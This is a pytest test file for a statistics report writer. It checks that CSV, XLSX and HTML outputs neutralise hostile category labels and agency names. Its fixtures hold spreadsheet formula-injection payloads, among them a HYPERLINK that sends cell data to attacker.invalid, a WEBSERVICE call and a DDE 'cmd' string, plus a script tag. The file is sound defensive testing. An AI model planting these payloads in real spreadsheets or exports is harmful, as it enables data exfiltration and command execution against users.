"""Hostile text in a published report: category labels and agency names that try to run as
spreadsheet formulas, or as markup in the HTML page."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.statistics.golden.dataset import AREA, PERIOD, build_dataset
from tipdata.codebook import load_codebook
from tipdata.model import Codebook
from tipdata.statistics.report import Report, ReportOptions, build_report, write_report
from tipdata.statistics.report_tidy import FORMULA_START, formula_safe

#: labels an attacker might put in a codebook translation or an agency name
HOSTILE_LABELS = {
    "ngo": '=HYPERLINK("http://attacker.invalid/?"&A1,"open") $x$',
    "law_enforcement": "+cmd|' /C calc'!A0",
    "health_service": "-2+3",
    "local_government": "@SUM(1,2)",
    "legal_service": "\t=1+1",
    "immigration_service": "\uff1d1\uff0b1",  # full-width = and +
    "central_government": "<script>alert('label')</script>",
}
HOSTILE_SOURCES = ("=ngo()", "@police", "\uff0dbrigade")


def hostile_codebook() -> Codebook:
    """The shipped codebook with hostile labels on the organisation types (the identifying
    agency breakdown shows them)."""
    codebook = load_codebook()
    options = codebook.option_lists["organisation_type"]
    relabelled = tuple(o.model_copy(update={"label": HOSTILE_LABELS[o.code]}) if o.code in HOSTILE_LABELS else o
                       for o in options.options)
    lists = {**codebook.option_lists, "organisation_type": options.model_copy(update={"options": relabelled})}
    return codebook.model_copy(update={"option_lists": lists})


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> tuple[Report, Path]:
    dataset = build_dataset(seed=3, persons=120)
    rename = dict(zip(("ngo", "police"), HOSTILE_SOURCES[:2], strict=True))
    linkage = {"sources": list(rename.values()) + [HOSTILE_SOURCES[2]],
               "assignments": [{**a, "source": rename[a["source"]]} for a in dataset.linkage["assignments"]]}
    report = build_report(dataset.records, hostile_codebook(), ReportOptions(
        period=PERIOD, area=AREA, k=3, linkage=linkage, title="=WEBSERVICE(\"http://attacker.invalid\")",
        codes=["VIC_IDENT", "VIC_IDENT_PERSONS"]))
    out = tmp_path_factory.mktemp("hostile")
    write_report(report, out)
    return report, out


def _dangerous(text: str) -> bool:
    return text.startswith(FORMULA_START)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"])
def test_formula_safe__neutralises_every_formula_start(text: str) -> None:
    """should prefix an apostrophe to text a spreadsheet would run as a formula, keeping the text."""
    assert formula_safe(text) == "'" + text


def test_formula_safe__leaves_ordinary_text_and_drops_xml_control_characters() -> None:
    """should not touch ordinary labels, and remove characters an XLSX file cannot hold."""
    assert formula_safe("Non-governmental organisation") == "Non-governmental organisation"
    assert formula_safe("a\x00b\x1fc") == "abc"


def test_report_csv__no_cell_can_run_as_a_formula(hostile_report: tuple[Report, Path]) -> None:
    """should write every hostile label and agency name with a leading apostrophe in the CSV files."""
    _report, out = hostile_report
    seen = set()
    for path in sorted((out / "csv").glob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for value in row:
                assert not _dangerous(value), f"{path.name}: {value!r}"
                seen.add(value)
    assert "'" + HOSTILE_LABELS["ngo"] in seen
    assert "'" + HOSTILE_LABELS["immigration_service"] in seen
    assert "'=ngo() only" in seen and "'=ngo() + @police" in seen


def test_report_xlsx__no_cell_is_a_formula(hostile_report: tuple[Report, Path]) -> None:
    """should write every text cell as a string that does not start like a formula, and no formula at all."""
    _report, out = hostile_report
    data = (out / "report.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(data))
    labels = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    assert not _dangerous(cell.value), f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    labels.add(cell.value)
    assert "'" + HOSTILE_LABELS["law_enforcement"] in labels
    assert "'" + '=WEBSERVICE("http://attacker.invalid")' in labels  # the title, on the README sheet


def test_report_html__escapes_hostile_labels(hostile_report: tuple[Report, Path]) -> None:
    """should show hostile labels as text: no markup from labels, no script at all."""
    _report, out = hostile_report
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script" not in html
    assert "&lt;script&gt;alert(" in html
    assert "=ngo() only" in html.replace("&#34;", '"')


def test_report__refuses_agency_names_that_collide_with_codes() -> None:
    """should refuse a source named like the total code, with the fix."""
    from tipdata.statistics.report_linkage import LinkageInputError, LinkageView

    with pytest.raises(LinkageInputError, match="'_T'.*tipdata link match"):
        LinkageView.from_json({"sources": ["_T"], "assignments": []})
